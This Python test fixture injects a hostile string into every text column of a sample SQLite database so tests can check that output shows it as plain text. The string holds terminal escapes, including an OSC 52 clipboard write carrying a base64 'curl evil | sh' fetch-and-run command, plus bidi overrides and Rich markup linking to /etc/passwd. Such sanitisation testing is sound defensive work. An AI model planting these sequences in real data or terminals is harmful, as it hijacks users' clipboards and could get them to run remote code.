"""A database whose user text holds terminal escapes, Rich markup and bidi controls, written straight into it.

Data like this predates the input rules (an older version, a script, another client of a shared
database): the output must show it as plain text whatever the services would accept today.
"""

from __future__ import annotations

import shutil
import sqlite3
from pathlib import Path

# OSC 52 (rewrite the clipboard), OSC 0 (the window title), a CSI colour, an 8-bit CSI (C1), DEL, a bidi
# override, and Rich markup: a closing tag that matches nothing, a style, a link.
EVIL = (
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07[/x] Closer [bold red]loud[/] "
    "[link=file:///etc/passwd]click[/link] \x1b[31mred\x9b2J\x7f\x85\u202eabc\u2066\t"
)
LITERALS = ("[/x] Closer", "[bold red]loud[/]", "[link=file:///etc/passwd]click[/link]")
"""What must be shown as it is written, wherever EVIL is shown on one line."""

FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x85", "\x7f", "\u202e", "\u2066")

# (table, columns): each value gets EVIL in front.
COLUMNS = {
    "selection": ("name", "description"),
    "panel_member": ("name", "role"),
    "candidate": ("name", "website", "notes"),
    "criterion": ("name", "description"),
    "question": ("text", "guidance"),
    "scope_item": ("name", "description", "notes"),
    "note": ("text", "owner"),
    "score": ("comment",),
    "meeting": ("location", "their_attendees"),
    "recommendation": ("recommender", "company", "experience"),
    "vendor_person": ("name", "role", "notes", "tenure"),
    "diligence_check": ("name", "evidence"),
}


def make_hostile(source: Path, target: Path) -> Path:
    """A copy of the sample database ``source`` with EVIL in front of every name and text."""
    shutil.copy2(source, target)
    with sqlite3.connect(target) as conn:
        for table, columns in COLUMNS.items():
            sets = ", ".join(f"{c} = ? || {c}" for c in columns)
            conn.execute(f"UPDATE {table} SET {sets}", (EVIL,) * len(columns))
    return target


def forbidden_in(text: str) -> list[str]:
    """The control characters of EVIL found in ``text`` (none, when it was shown safely)."""
    return [c for c in FORBIDDEN if c in text]


def sqlite_value(db: Path, sql: str) -> str:
    with sqlite3.connect(db) as conn:
        return str(conn.execute(sql).fetchone()[0])
